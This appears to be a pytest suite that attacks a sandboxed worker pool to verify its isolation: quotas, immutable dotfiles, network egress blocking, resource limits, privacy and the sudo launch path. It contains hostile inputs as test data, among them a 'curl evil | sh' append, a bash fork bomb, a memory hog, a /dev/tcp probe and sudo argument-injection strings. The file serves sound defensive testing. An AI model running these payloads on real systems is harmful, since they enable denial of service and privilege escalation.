"""A hostile worker on an enforcing cell: every test runs code as a pooled worker through the real launch path
(the launcher account, sudo, cellfleet-worker-run, systemd) and checks what the code could not do."""

from __future__ import annotations

import json
import shlex
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest
from testinfra.backend.base import CommandResult
from testinfra.host import Host

from cells import start_health_checks, stop_health_checks
from conftest import CONNECTED, Node, tcp_connect_many
from labkit.sending import SCRIPTS, script_command
from labkit.waiting import until

LAUNCHER = "cellserver"
RUN = "/usr/local/sbin/cellfleet-worker-run"
RESET = "/usr/local/sbin/cellfleet-worker-reset"
EDQUOT, EACCES, EPERM = 122, 13, 1
# What runs kernels as workers, stopped while this suite uses the pool (the server first: it needs its provider).
POOL_USERS = ("cellserver", "cellfleet-kernel-provider")
# How long a launch may take to get going on an emulated cell's one vCPU before a test gives up on it.
LAUNCH_SECONDS = 60


@dataclass(frozen=True)
class Pool:
    node: Node
    workers: list[str]
    uids: dict[str, int]
    homes: dict[str, str]
    context: str
    immutable: list[str]

    @property
    def host(self) -> Host:
        return self.node.host


@pytest.fixture(scope="module")
def pool(nodes: dict[str, Node]) -> Iterator[Pool]:
    cells = [node for node in nodes.values() if "cells" in node.groups]
    if not cells:
        pytest.skip("no host in the cells group")
    node = cells[0]
    config = json.loads(node.host.file("/etc/cellfleet/worker-pool.json").content_string)
    workers = sorted(config["workers"])
    # The attacks below use up to seven workers at once, each its own.
    assert len(workers) >= 7, f"this suite needs a pool of at least 7 workers, the cell has {len(workers)}"
    # The cell server's kernels hold workers too: this suite attacks and resets the pool on its own.
    # A health check would restart them, and the provider resets the workers when it starts.
    stop_health_checks(node.host)
    node.host.run_test(f"systemctl stop {' '.join(POOL_USERS)}")
    yield Pool(
        node=node,
        workers=workers,
        uids={name: entry["uid"] for name, entry in config["workers"].items()},
        homes={name: entry["home"] for name, entry in config["workers"].items()},
        context=config["selinux_context"],
        immutable=config["immutable"],
    )
    # A pool user started during the suite reset workers under its tests: their results would be chance.
    started = [unit for unit in POOL_USERS if node.host.run(f"systemctl is-active --quiet {unit}").rc == 0]
    # Not waited for: the next suite to use the cell server waits until it answers (first_cell).
    node.host.run(f"systemctl start --no-block {' '.join(reversed(POOL_USERS))}")
    start_health_checks(node.host)
    assert not started, f"{started} started while this suite had the pool to itself"


def as_launcher(command: str) -> str:
    """A shell line that runs command as the launcher account, the way the cell server would."""
    return f"runuser -u {LAUNCHER} -- {command}"


def as_worker(worker: str, script: str) -> str:
    return as_launcher(f"sudo -n {RUN} {worker} -- /bin/bash -c {shlex.quote(script)}")


def run_as_worker(pool: Pool, worker: str, script: str) -> CommandResult:
    return pool.host.run(as_worker(worker, script))


def reset(pool: Pool, worker: str) -> dict:
    output = pool.host.check_output(as_launcher(f"sudo -n {RESET} {worker}"))
    return json.loads(output)["workers"][0]


def python_errno(action: str) -> str:
    """A command running Python that performs action and prints the errno it failed with, or OK."""
    return script_command(SCRIPTS / "errno_of.py", action)


@pytest.fixture
def clean_workers(pool: Pool) -> Iterator[None]:
    yield
    pool.host.run(as_launcher(f"sudo -n {RESET} --all"))


# --- who the code runs as -------------------------------------------------------------------------


def test_worker_code_runs_in_the_confined_selinux_context(pool: Pool) -> None:
    worker = pool.workers[0]
    result = run_as_worker(pool, worker, "id -u; id -Z; cat /proc/self/attr/current; echo")
    assert result.rc == 0, result.stderr
    uid, context, attr = result.stdout.split()[:3]
    assert int(uid) == pool.uids[worker]
    assert context == pool.context == "user_u:user_r:user_t:s0"
    assert attr.rstrip("\0") == pool.context


def test_worker_accounts_have_no_password_and_no_shell(pool: Pool) -> None:
    for worker in pool.workers:
        entry = pool.host.user(worker)
        assert entry.password in ("!", "!*", "*"), f"{worker} has a usable password"
        assert entry.shell.endswith("nologin")
    # The group is mapped to the confined user, so any login path (PAM) lands there too.
    assert "%cellworkers" in pool.host.check_output("semanage login --list --noheading")


# --- quotas ---------------------------------------------------------------------------------------


def test_writing_past_the_block_quota_fails_with_edquot(pool: Pool, clean_workers: None) -> None:
    worker = pool.workers[1]
    hard_kib = int(
        pool.host.check_output(f"repquota -u -n -O csv / | awk -F, '$1 == \"#{pool.uids[worker]}\" {{print $6}}'")
    )
    chunk = "b'x' * (1 << 20)"
    fill = f"f = open('fill', 'wb')\nwhile True: f.write({chunk}); f.flush(); os.fsync(f.fileno())"
    result = run_as_worker(pool, worker, python_errno(fill) + "; stat -c %s fill")
    errno_seen, size = result.stdout.split()[:2]
    assert int(errno_seen) == EDQUOT, result.stdout + result.stderr
    assert int(size) <= hard_kib * 1024
    # The private /tmp sits on the same filesystem and counts against the same quota.
    result = run_as_worker(pool, worker, python_errno(fill.replace("'fill'", "'/tmp/fill'")))
    assert int(result.stdout.split()[0]) == EDQUOT, result.stdout + result.stderr
    # Nothing else is affected: root and another worker still write.
    assert pool.host.run("dd if=/dev/zero of=/var/tmp/cf-root-write bs=1M count=8 && rm /var/tmp/cf-root-write").rc == 0
    result = run_as_worker(pool, pool.workers[2], "echo fine > note && cat note")
    assert result.stdout.strip() == "fine", result.stderr


def test_creating_files_past_the_inode_quota_fails_with_edquot(pool: Pool, clean_workers: None) -> None:
    worker = pool.workers[1]
    create = "for i in range(10**6): open('f%d' % i, 'w').close()"
    result = run_as_worker(pool, worker, python_errno(create))
    assert int(result.stdout.split()[0]) == EDQUOT, result.stdout + result.stderr


# --- immutable dotfiles ---------------------------------------------------------------------------

TAMPERING = {
    "append": "open(p, 'a').write('curl evil | sh')",
    "truncate": "open(p, 'w')",
    "delete": "os.unlink(p)",
    "remove tree": "shutil.rmtree(p)",
    "rename": "os.rename(p, 'moved')",
    "chmod": "os.chmod(p, 0o777)",
    "chown": "os.chown(p, os.getuid(), os.getgid())",
    "replace": "open('new', 'w').write('x'); os.replace('new', p)",
    "symlink over": "os.symlink('/etc/passwd', 'l' + p); os.replace('l' + p, p)",
}
# EPERM (immutable), EACCES (root-owned), EISDIR/ENOTEMPTY/ENOTDIR for calls that do not fit a directory.
REFUSED = {1, 13, 20, 21, 39}


@pytest.fixture(scope="module")
def tampering(pool: Pool) -> dict[str, object]:
    worker = pool.workers[2]
    home = pool.homes[worker]
    describe = (
        f"cd {home} && for n in {' '.join(pool.immutable)}; do stat -c '%n %i %a %U %s %Y' $n; lsattr -d $n; done"
    )
    before = pool.host.check_output(describe)
    # Every attack on every immutable name in one worker run: each launch costs seconds under emulation.
    attacks = (json.dumps(TAMPERING), json.dumps(pool.immutable))
    script = script_command(SCRIPTS / "errno_of.py", "--each", *attacks)
    result = run_as_worker(pool, worker, script)
    assert result.rc == 0, result.stderr
    after = pool.host.check_output(describe)
    reset(pool, worker)
    return {"results": json.loads(result.stdout), "before": before, "after": after}


@pytest.mark.parametrize("attack", sorted(TAMPERING))
def test_a_worker_cannot_touch_an_immutable_dotfile(pool: Pool, tampering: dict, attack: str) -> None:
    for name in pool.immutable:
        outcome = tampering["results"][f"{attack} {name}"]
        assert outcome in REFUSED, f"{attack} on {name}: {outcome}"


def test_immutable_dotfiles_are_unchanged_after_every_attack(pool: Pool, tampering: dict) -> None:
    assert tampering["after"] == tampering["before"]
    for line in tampering["before"].splitlines():
        if not line.startswith(pool.homes[pool.workers[2]]) and " " in line and line.split()[0].count("-") > 3:
            assert "i" in line.split()[0], f"not immutable: {line}"


def test_a_worker_cannot_plant_files_in_immutable_directories(pool: Pool) -> None:
    worker = pool.workers[2]
    result = run_as_worker(pool, worker, python_errno("open('.ssh/authorized_keys', 'w')"))
    assert result.stdout.split()[0] in (str(EPERM), str(EACCES)), result.stdout + result.stderr


# --- network --------------------------------------------------------------------------------------


def probe_script(address: str, port: int) -> str:
    return f"timeout 4 bash -c 'exec 3<>/dev/tcp/{address}/{port}' 2>/dev/null; echo $?"


def test_outbound_connections_from_a_worker_fail_and_from_others_succeed(nodes: dict[str, Node], pool: Pool) -> None:
    peers = [node for node in nodes.values() if node is not pool.node]
    assert peers, "the egress test needs a second VM"
    for peer in peers:
        root_view = tcp_connect_many(pool.host, [(peer.address, 22)])
        assert root_view[(peer.address, 22)] == CONNECTED, f"root cannot reach {peer.name}:22 either"
        launcher = pool.host.run(as_launcher(probe_script(peer.address, 22)))
        assert launcher.stdout.strip() == "0", "the launcher account (not a worker) must keep its network"
        result = run_as_worker(pool, pool.workers[3], probe_script(peer.address, 22))
        assert result.stdout.strip() != "0", f"a worker reached {peer.name}:22"
    result = run_as_worker(pool, pool.workers[3], probe_script("127.0.0.1", 22))
    assert result.stdout.strip() != "0", "a worker reached this host's sshd over loopback"
    dropped = pool.host.check_output("nft list chain inet cellfleet_worker_egress worker | grep -o 'packets [0-9]*'")
    assert int(dropped.split()[-1]) > 0


# --- resources ------------------------------------------------------------------------------------


def eventually(look: Callable[[], str], seconds: float = LAUNCH_SECONDS) -> str:
    """look()'s first non-empty answer, or its empty one once seconds are up."""
    return until(lambda: look().strip(), seconds)


def fresh_ssh_seconds(node: Node) -> float:
    """Time a brand-new SSH login from the controller (no shared master connection)."""
    command = [
        "ssh",
        "-o", "ControlMaster=no", "-o", "ControlPath=none", "-o", "BatchMode=yes", "-o", "ConnectTimeout=30",
        "-i", node.variables["ansible_ssh_private_key_file"],
        *shlex.split(node.variables["ansible_ssh_common_args"]),
        f"root@{node.address}", "true",
    ]  # fmt: skip
    started = time.monotonic()
    subprocess.run(command, check=True, capture_output=True, timeout=60)
    return time.monotonic() - started


def test_fork_bomb_and_memory_hog_are_contained(pool: Pool, clean_workers: None) -> None:
    bomber, hog, bystander = pool.workers[4], pool.workers[5], pool.workers[6]
    baseline = fresh_ssh_seconds(pool.node)
    pool.host.run(
        "systemd-run --unit=cf-test-bomb --collect "
        + as_worker(bomber, "b() { b | b & }; b; sleep 60")
        + " ; systemd-run --unit=cf-test-hog --collect "
        + as_worker(hog, "python3 -c 'm = []\nwhile True: m.append(bytearray(64 << 20))'")
    )
    events = f"/sys/fs/cgroup/cellworkers.slice/cellworkers-{hog}.slice/memory.events"
    try:
        # The hog is killed once it reaches its limit; by then the bomb has had as long to spread.
        killed = eventually(lambda: pool.host.run(f"awk '$1 == \"oom_kill\" && $2 > 0' {events}").stdout)
        assert killed, f"no OOM kill of the hog in {LAUNCH_SECONDS} s: {pool.host.file(events).content_string}"
        tasks = int(pool.host.check_output(f"systemctl show -P TasksCurrent cellworkers-{bomber}.slice"))
        limit = int(pool.host.check_output(f"systemctl show -P TasksMax cellworkers-{bomber}.slice"))
        assert 0 < tasks <= limit
        # Containment is the task count above; this is the cell staying usable beside it. The better of two
        # logins, relative to the same login idle: an emulated cell's one vCPU is slow even when nothing runs
        # and shares it with the contained bomb and the hog's reclaim (one login took 3 x the idle one).
        under_load = min(fresh_ssh_seconds(pool.node) for _ in range(2))
        slow = f"SSH took {under_load:.1f} s under the fork bomb (idle: {baseline:.1f} s)"
        assert under_load < max(10, 4 * baseline), slow
        result = run_as_worker(pool, bystander, "python3 -c 'print(sum(range(10**6)))'")
        assert result.stdout.strip() == str(sum(range(10**6))), result.stderr
    finally:
        reset(pool, bomber)
        reset(pool, hog)
        pool.host.run("systemctl stop cf-test-bomb cf-test-hog")


# --- privacy --------------------------------------------------------------------------------------


def test_a_worker_cannot_read_another_workers_files_or_the_server_config(pool: Pool, clean_workers: None) -> None:
    owner, snoop = pool.workers[0], pool.workers[-1]
    pool.host.run(
        "install -d -o root -g cellserver -m 0750 /etc/cellfleet/cellserver && "
        "echo 'secret_key = stand-in' > /etc/cellfleet/cellserver/secrets.toml && "
        "chgrp cellserver /etc/cellfleet/cellserver/secrets.toml && chmod 0640 /etc/cellfleet/cellserver/secrets.toml"
    )
    pool.host.run(
        "systemd-run --unit=cf-test-owner --collect "
        + as_worker(
            owner,
            "echo s3cret > ~/secret; echo s3cret > /tmp/secret; echo s3cret > /dev/shm/secret; "
            "touch ~/written; sleep 600",
        )
    )
    try:
        # Every secret is written once the marker is: only then would a snoop's miss mean anything.
        written = f"test -e {pool.homes[owner]}/written && find /tmp -path '*cellworker-{owner}*' -name secret"
        private_tmp = eventually(lambda: pool.host.run(written).stdout)
        assert private_tmp, "the owner's /tmp file should exist somewhere under the host's /tmp"
        for path in (
            f"{pool.homes[owner]}/secret",
            private_tmp.splitlines()[0],
            "/etc/cellfleet/cellserver/secrets.toml",
        ):
            result = run_as_worker(pool, snoop, python_errno(f"open({path!r}).read()"))
            assert result.stdout.split()[0] in (str(EACCES), "2"), f"{snoop} read {path}: {result.stdout}"
        result = run_as_worker(
            pool,
            snoop,
            "cat /tmp/secret /dev/shm/secret 2>&1; ls /home 2>&1; "
            "grep -rl s3cret /tmp /var/tmp /dev/shm /home /run/lock 2>/dev/null",
        )
        assert "s3cret" not in result.stdout
        # Other workers' processes are invisible, so their /proc/<pid>/root and environ are out of reach.
        result = run_as_worker(pool, snoop, "ps -eo user= | sort -u")
        assert set(result.stdout.split()) <= {snoop}
    finally:
        pool.host.run("systemctl stop cf-test-owner")


# --- the launch path ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "attempt",
    [
        "sudo -n /bin/sh -c id",
        "sudo -n -u root id",
        "sudo -n -u {worker} id",
        "sudo -n {run} root -- id",
        "sudo -n {run} {launcher} -- id",
        "sudo -n {run} ../root -- id",
        "sudo -n {run} '{worker} --uid=0' -- id",
        "sudo -n {run} --uid=0 {worker} -- id",
        "sudo -n {run} --env 'X=1 --uid=0' {worker} -- id -u",
        "sudo -n {reset} root",
    ],
)
def test_the_launcher_cannot_become_root_or_another_account(pool: Pool, attempt: str) -> None:
    command = attempt.format(worker=pool.workers[0], run=RUN, reset=RESET, launcher=LAUNCHER)
    result = pool.host.run(as_launcher(command) + " 2>&1")
    output = result.stdout
    assert "uid=0(" not in output and not output.strip().startswith("0")
    if "--env" not in command:
        assert result.rc != 0, f"{command} was allowed: {output}"


@pytest.mark.parametrize("attempt", ["sudo -n id", "su -c id root < /dev/null", "/usr/bin/newgrp root < /dev/null"])
def test_worker_code_cannot_gain_privileges(pool: Pool, attempt: str) -> None:
    result = run_as_worker(pool, pool.workers[0], f"{attempt} 2>&1; id -u")
    assert result.stdout.strip().splitlines()[-1] == str(pool.uids[pool.workers[0]])
    assert "uid=0(" not in result.stdout


# --- reset ----------------------------------------------------------------------------------------


def test_reset_leaves_no_process_and_no_file_and_keeps_the_dotfiles(pool: Pool) -> None:
    worker = pool.workers[5]
    uid = pool.uids[worker]
    home = pool.homes[worker]
    dotfiles = f"find {home} -maxdepth 1 -type f | sort | xargs sha256sum"
    dotfiles_before = pool.host.check_output(dotfiles)
    pool.host.run(
        "systemd-run --unit=cf-test-litter --collect "
        + as_worker(
            worker,
            "mkdir -p ~/deep/er && echo x > ~/deep/er/f && echo x > ~/.hidden && echo x > /tmp/t && "
            "echo x > /dev/shm/s && ipcmk -M 4096 && (setsid sleep 600 &) && "
            "(nohup sleep 600 >/dev/null 2>&1 &) && sleep 600",
        )
    )
    # A process of the worker that was not started through the pool, and a file it left in a shared directory.
    pool.host.run(f"systemd-run --unit=cf-test-stray --uid={uid} --collect sleep 600")
    pool.host.run(f"install -o {uid} -m 600 /dev/null /var/tmp/cf-stray-{worker}")
    # Started in the background: wait until the worker's processes and its litter are there to be reset.
    assert eventually(lambda: pool.host.run(f"pgrep -u {uid}").stdout), "the worker's processes never started"
    litter = f"find {home}/deep /tmp /var/tmp /dev/shm -user {uid}"
    assert eventually(lambda: pool.host.run(litter).stdout), "the worker's files never appeared"

    report = reset(pool, worker)

    assert report["killed"] >= 1 and report["errors"] == []
    assert pool.host.run(f"pgrep -u {uid}").rc == 1, "a process survived the reset"
    leftovers = pool.host.check_output(
        f"find / -xdev -user {uid} -not -path {home} 2>/dev/null; find /dev/shm /dev/mqueue /run/lock -user {uid}"
    )
    assert leftovers == "", f"files left behind: {leftovers}"
    assert str(uid) not in pool.host.check_output("awk 'NR > 1 {print $8}' /proc/sysvipc/shm")
    assert pool.host.check_output(f"ls -A {home}").split() == sorted(pool.immutable)
    assert pool.host.check_output(f"stat -c '%a %u' {home}") == f"700 {uid}"
    for name in pool.immutable:
        assert "i" in pool.host.check_output(f"lsattr -d {home}/{name}").split()[0]
    assert pool.host.check_output(dotfiles) == dotfiles_before
    pool.host.run("systemctl stop cf-test-litter cf-test-stray")
